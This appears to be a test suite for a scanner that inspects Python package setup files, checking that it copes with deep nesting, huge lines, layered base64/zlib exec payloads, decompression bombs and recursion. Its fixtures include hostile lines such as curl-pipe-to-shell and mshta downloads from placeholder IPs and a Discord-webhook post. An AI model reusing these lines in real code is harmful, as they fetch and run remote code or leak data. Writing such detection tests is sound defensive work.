// Hostile input must end quickly with the limits it hit reported: deep nesting, huge lines,
// decoder chains, binary and bomb payloads, endless loops and recursion.

import { deflateSync } from 'node:zlib';
import { MAX_PAYLOAD_DEPTH, analyzeSdist, analyzeSource } from '../src/analysis/index.js';

const py = (lines: string[]): string => lines.join('\n') + '\n';

describe('nesting', () => {
  it('survives 10,000 nested parentheses and still scans the strings', () => {
    const src = `x = ${'('.repeat(10_000)}1${')'.repeat(10_000)}\nimport os\nos.system("curl http://203.0.113.9/x | sh")\n`;
    const r = analyzeSource(src, 'setup.py');
    expect(r.limits.join('\n')).toMatch(/brackets nested 10000 deep/);
    expect(r.findings.some((f) => f.rule === 'callback-host' && f.line === 3)).toBe(true);
  });

  it('scans an unparsed file for strings outside comments only', () => {
    const deep = `x = ${'['.repeat(300)}${']'.repeat(300)}`;
    const src = ['# don\'t run this: 注释 中文', deep, "HOOK = rb'https://discord.com/api/webhooks/1/x'", 'requests.post(HOOK)'].join('\n') + '\n';
    const r = analyzeSource(src, 'setup.py');
    expect(r.limits).toHaveLength(1);
    expect(r.findings.find((f) => f.rule === 'callback-host')).toMatchObject({ line: 3, severity: 'high' });
    expect(r.findings.filter((f) => f.rule === 'odd-identifiers')).toEqual([]);
  });

  it('survives long operator and call chains', () => {
    for (const src of [
      `z = ${Array(3000).fill('"a"').join(' + ')}\n`,
      `z = ${Array(3000).fill('2').join('**')}\n`,
      `z = f${'()'.repeat(5000)}\n`,
      `z = a${'.b'.repeat(5000)}\n`,
      `z = ${'not '.repeat(3000)}x\n`,
      `z = ${'lambda: '.repeat(2000)}1\n`,
    ]) {
      const r = analyzeSource(src, 'setup.py');
      expect(r.analyzed).toEqual(['setup.py']);
    }
  });

  it('still finds calls inside expressions too deep to fold', () => {
    const r = analyzeSource(py(['import os', `x = ${'-'.repeat(400)}os.system("mshta http://198.51.100.23/a.hta")`]), 'setup.py');
    expect(r.limits.join('\n')).toMatch(/nested deeper than/);
    expect(r.findings.some((f) => f.rule === 'process-run' && f.line === 2)).toBe(true);
  });

  it('stops following calls nested deeper than it folds', () => {
    const src = Array.from({ length: 400 }, (_, i) => `def f${i}(x):\n    return f${i + 1}(x + "a")\n`).join('') + 'f0("x")\n';
    const r = analyzeSource(src, 'setup.py');
    expect(r.limits.join('\n')).toMatch(/nested deeper than/);
  });
});

describe('size', () => {
  it('handles a 1 MB line', () => {
    const r = analyzeSource(`x = "${'A'.repeat(1 << 20)}"\n`, 'setup.py');
    expect(r.findings.filter((f) => f.rule === 'long-line').map((f) => f.severity)).toEqual(['medium']);
  });

  it('handles a 1 MB base64 blob that is run, scanning rather than parsing the huge payload', () => {
    const blob = Buffer.alloc(768 * 1024, 'print(1)\n').toString('base64');
    const r = analyzeSource(`import base64\nexec(base64.b64decode("${blob}"))\n`, 'setup.py');
    expect(r.suspicious).toBe(true);
    expect(r.limits.join('\n')).toMatch(/more than the 524288 parsed/);
  });
});

describe('payloads', () => {
  it(`analyzes decoded code ${MAX_PAYLOAD_DEPTH} levels deep and reports deeper levels`, () => {
    let s = "import os\nos.system('mshta http://198.51.100.23/a.hta')";
    for (let i = 0; i < MAX_PAYLOAD_DEPTH + 3; i++) s = `exec(__import__('base64').b64decode(${JSON.stringify(Buffer.from(s).toString('base64'))}))`;
    const r = analyzeSource(s + '\n', 'setup.py');
    expect(r.limits.join('\n')).toMatch(/payload nested deeper than 4/);
    expect(r.findings.filter((f) => f.rule === 'dynamic-exec' && f.severity === 'critical').length).toBeGreaterThanOrEqual(1);
    expect(r.findings.some((f) => f.message.startsWith('In code decoded at line 1'))).toBe(true);
  });

  it('flags a binary payload without parsing it as code', () => {
    const bytes = Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 7919) % 256));
    const r = analyzeSource(`import base64\nexec(base64.b64decode("${bytes.toString('base64')}"))\n`, 'setup.py');
    expect(r.findings.find((f) => f.rule === 'dynamic-exec')?.severity).toBe('critical');
    expect(r.findings.filter((f) => f.rule === 'odd-identifiers')).toEqual([]);
  });

  it('refuses a decompression bomb and still calls running it critical', () => {
    const bomb = deflateSync(Buffer.alloc(40 * 1024 * 1024)).toString('base64');
    const r = analyzeSource(`import zlib, base64\nexec(zlib.decompress(base64.b64decode("${bomb}")))\n`, 'setup.py');
    expect(r.findings.find((f) => f.rule === 'dynamic-exec')?.severity).toBe('critical');
  });
});

describe('loops and recursion', () => {
  it('ends a loop over a huge string at the evaluation budget', () => {
    const r = analyzeSource(`x = "".join(chr(ord(c) ^ 1) for c in "${'abc'.repeat(400_000)}")\nexec(x)\n`, 'setup.py');
    expect(r.limits.join('\n')).toMatch(/evaluation budget/);
  });

  it('ends recursive and mutually recursive functions', () => {
    const r = analyzeSource(py(['def a(x):', '    return b(x + "a")', 'def b(x):', '    return a(x)', 'exec(a("x"))']), 'setup.py');
    expect(r.findings.find((f) => f.rule === 'dynamic-exec')?.severity).toBe('medium');
  });

  it('caps repetition of strings and lists', () => {
    const r = analyzeSource(py(['x = "a" * 10**12', 'y = [1] * 10**9', 'z = [1]', 'for i in range(100):', '    z = z + z', 'exec(x)']), 'setup.py');
    expect(r.analyzed).toEqual(['setup.py']);
  });

  it('shares one evaluation budget across the files of an sdist', () => {
    const heavy = `x = "".join(chr(ord(c) ^ 1) for c in "${'abc'.repeat(300_000)}")\n`;
    const files = new Map<string, string>([['setup.py', 'import a, b, c, d, e\n']]);
    for (const m of ['a', 'b', 'c', 'd', 'e']) files.set(`${m}.py`, heavy);
    const r = analyzeSdist(files);
    expect(r.limits.join('\n')).toMatch(/steps for the sdist/);
  });
});
